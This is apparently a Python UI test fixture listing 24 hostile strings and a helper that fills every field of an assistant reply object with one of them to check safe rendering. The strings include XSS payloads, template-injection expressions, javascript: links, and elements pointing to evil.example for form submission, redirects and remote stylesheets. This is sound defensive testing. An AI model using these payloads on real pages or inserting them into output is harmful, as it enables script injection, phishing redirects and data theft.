"""Twenty-four texts that try to run, fetch or cover something, and a reply made of one of them."""

from dataclasses import replace

from assistant.contract import Citation, Difference, Reply, Sentence, Side
from tests.ui.replies import build_reply

HOSTILE = (
    '<img src=x onerror="window.hacked=1">',
    "<script>window.hacked=1</script>",
    "${window.hacked=1}",
    "{{constructor.constructor('window.hacked=1')()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "`${window.hacked=1}`",
    "</script><svg onload=window.hacked=1>",
    "[a](javascript:window.hacked=1) ![x](https://evil.example/x.png)",
    '<a href="javascript:window.hacked=1">click</a>',
    '<a href="java\tscript:window.hacked=1">click</a>',
    '<div style="position:fixed;inset:0;background:#fff">all clear</div>',
    "<form action=https://evil.example><input name=q><button>Send</button></form>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example/x.swf></object><embed src=https://evil.example/x>",
    "<base href=https://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none} @import url(https://evil.example/x.css);</style>",
    "<details open ontoggle=window.hacked=1><summary>x</summary></details>",
    '"><svg/onload=window.hacked=1><use href="https://evil.example/x.svg#a"/>',
    "$$\\href{javascript:window.hacked=1}{x}$$ ```mermaid\nclick A javascript:window.hacked=1\n```",
    "' autofocus onfocus='window.hacked=1' x='",
    "\u202egnp.exe \ud800 \x00 \u2066 window.hacked=1 \u2028\u2029",
)


def build_hostile_reply(words: str) -> Reply:
    """A reply in which an article's every word, and all that is said of it, is `words`."""
    citation = Citation(
        n=1,
        article=words,
        title=words,
        author=words,
        publisher=words,
        url=words,
        credentials=words,
        date=words,
        section=words,
        passage_id=words,
        passage=words,
        start=0,
        end=len(words),
        note=words,
        caution=words,
    )
    sentence = Sentence(words, (1,))
    sides = (Side("one", words, (sentence,)), Side("two", words, (sentence,)))
    return replace(
        build_reply(text=words, answered=True),
        verdict=words,
        notice=words,
        sentences=(sentence,),
        citations=(citation,),
        differs=(Difference(words, sides),),
        suggestions=(words,),
        searched=words,
    )
